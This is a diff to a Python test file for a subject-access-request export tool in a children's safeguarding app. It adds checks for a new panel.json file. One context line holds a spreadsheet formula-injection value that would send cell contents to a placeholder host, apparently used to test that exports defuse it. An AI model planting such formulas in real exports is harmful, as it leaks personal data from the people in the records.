@@ -24,7 +24,14 @@ from ccehub.children.selectors import MSG_CHILD_NOT_FOUND, ChildNotFound, child_
 
 pytestmark = pytest.mark.django_db
 LONDON = ZoneInfo("Europe/London")
-FILES = {"README.txt", "record.json", "access-history.csv", "agencies.csv", "agency-records.csv"}
+FILES = {
+    "README.txt",
+    "record.json",
+    "access-history.csv",
+    "agencies.csv",
+    "agency-records.csv",
+    "panel.json",
+}
 #: A purpose typed on the command line that a spreadsheet would run as a formula.
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
 
@@ -107,7 +114,7 @@ def jamie(islington_child, people, agencies, make_user, roles, actor_for):
 # --- files and permissions ------------------------------------------------------------------------
 
 
-def test_writes_five_owner_only_files_in_an_owner_only_folder(jamie, tmp_path):
+def test_writes_six_owner_only_files_in_an_owner_only_folder(jamie, tmp_path):
     out = tmp_path / "sar-2024-017"
     result = sar(jamie.pseudonymous_id, out)
     assert result.exit_code == 0, result.output
@@ -297,6 +304,24 @@ def test_agency_records_the_person_index_puts_with_the_child_are_listed_as_such(
         ("met", "MET-CUST-9", "person_index"),
     ]
     assert "1 record linked only by the person index" in (out / "README.txt").read_text()
+
+
+def test_a_child_never_shared_with_a_panel_has_an_empty_panel_json(jamie, tmp_path):
+    """The panel's records are in panel.json (tests/children/test_subject_access_panel.py); a child
+    the panel never had still gets the file, saying so."""
+    out = tmp_path / "sar"
+    assert sar(jamie.pseudonymous_id, out).exit_code == 0
+    panel = json.loads((out / "panel.json").read_text())
+    assert panel == {
+        "pseudonymous_id": jamie.pseudonymous_id,
+        "staff_names": "withheld",
+        "agencies": {},
+        "panel_cases": [],
+        "outside_panel_cases": {"referrals": [], "joint_plans": [], "safeguarding_orders": []},
+    }
+    assert "has not been shared with a CCE panel" in (out / "README.txt").read_text()
+    event = AuditEvent.objects.get(object_type="subject_access")
+    assert "0 panel cases" in event.detail
 
 
 def test_the_readme_is_a_draft_cover_note(jamie, tmp_path):
